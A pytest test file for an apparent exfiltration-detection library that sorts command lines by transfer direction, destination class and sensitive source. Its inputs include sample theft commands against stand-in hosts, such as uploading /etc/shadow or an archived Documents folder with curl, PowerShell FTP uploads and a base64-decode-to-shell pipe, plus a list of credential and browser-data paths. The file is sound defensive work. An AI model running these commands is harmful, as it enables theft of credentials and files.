"""The fields that rules ask of a command line: its gravest transfer, archive and search, and the line as a whole."""

import pytest

from exfilwatch.commands.fields import Fields, fields
from exfilwatch.commands.named import FIELDS


def of(line: str, image: str = "/bin/sh", **more: str) -> Fields:
    event = {"CommandLine": line, "Image": image, **more}
    return fields(event.get)


def test_an_upload_is_said_with_its_source_and_destination() -> None:
    found = of("curl -u a:b -T /home/eva/plan.docx https://files.example.net/in/", "/usr/bin/curl")
    assert {name: found[f"transfer.{name}"] for name in ("direction", "tool", "family", "destination", "secret")} == {
        "direction": "upload",
        "tool": "curl",
        "family": "http client",
        "destination": "files.example.net",
        "secret": True,
    }
    assert found["transfer.destination_class"] == "public"
    assert found["transfer.source_path"] == ["/home/eva/plan.docx"]
    assert found["transfer.sensitive_source"] == "documents"


@pytest.mark.parametrize(
    ("line", "direction", "where"),
    [
        ("sh -c 'curl -o a https://a.example/ ; curl -T x https://b.example/'", "upload", "b.example"),
        ("sh -c 'curl -T x http://127.0.0.1/ ; curl -T x https://b.example/'", "upload", "b.example"),
        ("sh -c 'curl -T x https://a.example/ ; curl -T /etc/shadow https://b.example/'", "upload", "b.example"),
        ("sh -c 'curl -o a https://a.example/ ; python3 -m http.server'", "offer", None),
        ("sh -c 'curl -o a https://a.example/'", "download", "a.example"),
    ],
)
def test_the_gravest_of_several_transfers_counts(line: str, direction: str, where: str | None) -> None:
    found = of(line)
    assert (found["transfer.direction"], found["transfer.destination"]) == (direction, where)


@pytest.mark.parametrize(
    ("script", "where"),
    [
        (
            "$f=[Net.FtpWebRequest]::Create('ftp://b.example/x'); $f=[Net.FtpWebRequest]$f; $f.Method='STOR'",
            "b.example",
        ),
        (
            "$w=New-Object Net.WebClient; $w.UploadFile('http://b.example/', $f); $x.SendFile('C:\\a.zip')",
            "b.example",
        ),
        ("iwr http://a.example/x -OutFile x; $s.Method = 'POST'", None),
    ],
)
def test_an_upload_that_names_no_host_goes_where_the_line_says(script: str, where: str | None) -> None:
    found = fields({"ScriptBlockText": script}.get)
    assert (found["transfer.direction"], found["transfer.destination"]) == ("upload", where)


@pytest.mark.parametrize(
    ("host", "kind"),
    [
        ("127.0.0.1", "loopback"),
        ("0x7f000001", "loopback"),
        ("2130706433", "loopback"),
        ("[::ffff:127.0.0.1]", "loopback"),
        ("localhost", "loopback"),
        ("10.1.2.3", "private"),
        ("169.254.1.1", "link-local"),
        ("100.64.0.1", "shared"),
        ("files.corp.local", "internal"),
        ("203.0.113.7", "public"),
        ("8.8.8.8", "public"),
        ("[2001:4860:4860::8888]", "public"),
        ("b.s3.eu-west-1.amazonaws.com", "cloud storage"),
        ("ec2-1-2-3-4.compute.amazonaws.com", "public"),
        ("transfer.sh", "file sharing"),
        ("Pastebin.COM.", "paste"),
        ("discord.com", "messaging"),
        ("x.ngrok.io", "tunnel"),
        ("x.duckdns.org", "dynamic dns"),
        ("notpastebin.com", "public"),
        ("fileserver", "internal"),
        ("$HOST", "unknown"),
    ],
)
def test_classes_of_destinations(host: str, kind: str) -> None:
    assert of(f"curl -T x http://{host}/", "/usr/bin/curl")["transfer.destination_class"] == kind


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("/etc/shadow", "credentials"),
        ("/home/a/.ssh/id_ed25519", "credentials"),
        (r"C:\Users\a\AppData\Local\Google\Chrome\User Data\Default\Login Data", "browser data"),
        (r"C:\Users\a\mail.pst", "mail"),
        ("/srv/shop.sql.gz", "database"),
        (r"C:\Users\a\x.XLSX", "documents"),
        ("/tmp/.d.tgz", "staged archive"),
        (r"C:\Windows\Temp\a.7z", "staged archive"),
        ("/srv/www/index.html", None),
        ("/opt/build/artifact.tar.gz", None),
    ],
)
def test_kinds_of_sensitive_sources(path: str, kind: str | None) -> None:
    quoted = f"'{path}'"
    assert of(f"sh -c curl -T {quoted} https://h.example/")["transfer.sensitive_source"] == kind


def test_what_a_pipe_carries_is_the_source() -> None:
    found = of("sh -c 'tar cz /home/eva/Documents | curl -T - https://h.example/'")
    assert found["transfer.source_path"] == ["/home/eva/Documents"]
    assert found["command.does"] == ["archive", "upload"]
    assert found["archive.sensitive_source"] == "documents"


def test_a_program_is_known_by_its_original_name() -> None:
    found = of(r"x.exe -T C:\a https://h.example/", r"C:\x.exe", OriginalFileName="curl.exe")
    assert (found["transfer.tool"], found["transfer.renamed"]) == ("curl", True)


def test_a_script_block_and_a_task_are_read_like_a_line() -> None:
    block = fields({"ScriptBlockText": "curl.exe -T C:\\a https://h.example/"}.get)
    task = "<Task><Actions><Exec><Command>curl</Command><Arguments>-T C:\\a https://h.example/</Arguments></Exec></Actions></Task>"
    cut = task[:70]
    assert block["transfer.direction"] == "upload"
    assert fields({"TaskContent": task}.get)["transfer.direction"] == "upload"
    assert fields({"TaskContent": cut}.get).get("transfer.direction") is None


def test_an_event_without_a_command_has_no_fields() -> None:
    assert fields({"Image": "/bin/sh"}.get) == {}


def test_every_field_is_one_that_is_named() -> None:
    found = of("sh -c 'find /home; zip -P x a.zip b; curl -T a.zip https://h.example/; echo YQ== | base64 -d | sh'")
    assert set(found) <= set(FIELDS)
    assert {name.partition(".")[0] for name in found} >= {"transfer", "archive", "command"}
